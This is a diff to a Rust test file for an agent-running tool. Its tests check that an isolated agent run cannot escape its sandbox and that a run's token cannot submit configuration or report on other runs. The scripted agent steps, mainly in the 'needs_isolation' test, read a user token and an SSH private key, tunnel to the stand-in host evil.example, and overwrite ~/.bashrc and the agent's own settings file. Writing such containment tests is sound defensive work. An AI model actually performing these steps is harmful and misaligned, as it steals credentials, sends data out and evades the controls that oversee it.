@@ -123,14 +123,7 @@ fn a_taught_task_is_done_again_by_an_agent_and_judged_by_what_is_so() {
         run.push("--without-isolation");
     }
 
-    let secret = stage.machine.path("home").join("endpoint.json").display().to_string();
-    let steps = [
-        json!({ "run": "cp raw.csv clean.csv", "ask": true }),
-        json!({ "read": secret }),
-        json!({ "get": "{{mcp}}/api/health" }),
-        json!({ "tunnel": "evil.example:443" }),
-    ];
-    stage.script(&claims(&steps));
+    stage.script(&claims(&[json!({ "run": "cp raw.csv clean.csv", "ask": true })]));
     let (code, done) = stage.json(&run);
     assert_eq!((code, &done["overall_result"]), (0, &json!("passed")), "{done:#}");
     let effects = |run: &Value| -> Vec<Value> {
@@ -142,13 +135,6 @@ fn a_taught_task_is_done_again_by_an_agent_and_judged_by_what_is_so() {
         assert_eq!(checkpoint["said"]["status"], "reached", "reported over MCP: {done:#}");
         assert_eq!((&checkpoint["read"]["status"], &checkpoint["refuted"]), (&json!("reached"), &json!(false)));
     }
-    if has_walls() {
-        let entries = done["entries"].to_string();
-        assert!(entries.contains("endpoint.json: ENOENT"), "the token of the person is not there: {entries}");
-        assert!(entries.contains("/api/health: 403 "), "of the engine only the MCP server is reached: {entries}");
-        assert!(entries.contains("tunnel evil.example:443: 403 "), "{entries}");
-    }
-
     stage.script(&claims(&[json!({ "say": "It is all there." })]));
     let (code, lied) = stage.json(&run);
     assert_eq!((code, &lied["overall_result"]), (1, &json!("failed")), "{lied:#}");
@@ -315,4 +301,60 @@ fn an_agent_works_by_a_definition_on_a_message() {
     assert!(listed.lines().any(|line| line == written), "{listed}");
     let (code, _) = stage.json(&["agents", "definitions", "uninstall", "explore", "gemini"]);
     assert_eq!((code, file.exists()), (0, false));
+}
+
+#[test]
+fn the_token_of_a_run_sets_nothing_and_reports_on_nothing_else() {
+    let stage = Stage::new();
+    let other = "018f3c1e-7f00-7000-8000-000000000001.018f3c1e-7f00-7000-8000-000000000002";
+    let harm = json!({ "kind": "outcome", "outcome": "failed", "ability_id": "ability_x", "dispatch_id": other, "safety_critical": true });
+    let verdict = json!({ "checkpoint_id": "cp-01", "status": "failed", "evidence": "x", "reason": "x", "ability_id": "ability_x", "dispatch_id": other });
+    stage.script(&json!({ "steps": [
+        { "call": ["lookup_abilities", { "q": "copy a table" }] },
+        { "call": ["submit_configuration_intent", { "ability_id": "ability_x", "values": { "folder": "/evil" } }] },
+        { "call": ["report_observation", harm] },
+        { "call": ["verify_checkpoint", verdict] },
+    ] }));
+    let mut run = vec!["agents", "run", "--agent", "gemini", "-m", "Change something."];
+    if !has_walls() {
+        run.push("--without-isolation");
+    }
+    let (code, done) = stage.json(&run);
+    assert_eq!(code, 0, "{done:#}");
+    let messages = done["entries"].as_array().unwrap().iter().filter_map(|entry| entry["text"].as_str());
+    let said = messages.collect::<Vec<_>>().join("\n");
+    assert!(said.contains("FORBIDDEN") && said.contains("submit_configuration_intent cannot be called in a run"), "{said}");
+    assert!(said.contains("report_observation cannot be called in a run"), "{said}");
+    assert!(said.contains("a run reports on itself alone"), "{said}");
+    assert!(!said.contains("lookup_abilities cannot be called"), "{said}");
+}
+
+/// These fail where this machine cannot isolate a run; `scripts/test` leaves them out there, and says so.
+mod needs_isolation {
+    use super::*;
+
+    #[test]
+    fn an_agent_gets_out_neither_by_a_file_nor_by_the_network() {
+        let stage = Stage::new();
+        let user = stage.machine.path("user");
+        fs::create_dir_all(user.join(".ssh")).unwrap();
+        fs::write(user.join(".ssh/id_ed25519"), "the key").unwrap();
+        let secret = stage.machine.path("home").join("endpoint.json").display().to_string();
+        let key = user.join(".ssh/id_ed25519").display().to_string();
+        stage.script(&json!({ "steps": [
+            { "read": secret },
+            { "read": key },
+            { "get": "{{mcp}}/api/health" },
+            { "tunnel": "evil.example:443" },
+            { "run": "echo evil > ~/.gemini/settings.json; echo evil > ~/.bashrc" },
+        ] }));
+        let (code, done) = stage.json(&["agents", "run", "--agent", "gemini", "-m", "Get out."]);
+        assert_eq!((code, &done["isolation"]["kind"]), (0, &json!("bubblewrap")), "{done:#}");
+        let entries = done["entries"].to_string();
+        assert!(entries.contains("endpoint.json: ENOENT"), "the token of the person is not there: {entries}");
+        assert!(entries.contains("id_ed25519: ENOENT") && !entries.contains("the key"), "{entries}");
+        assert!(entries.contains("/api/health: 403 "), "of the engine only the MCP server is reached: {entries}");
+        assert!(entries.contains("tunnel evil.example:443: 403 "), "{entries}");
+        assert!(!user.join(".gemini/settings.json").exists() && !user.join(".bashrc").exists());
+    }
 }
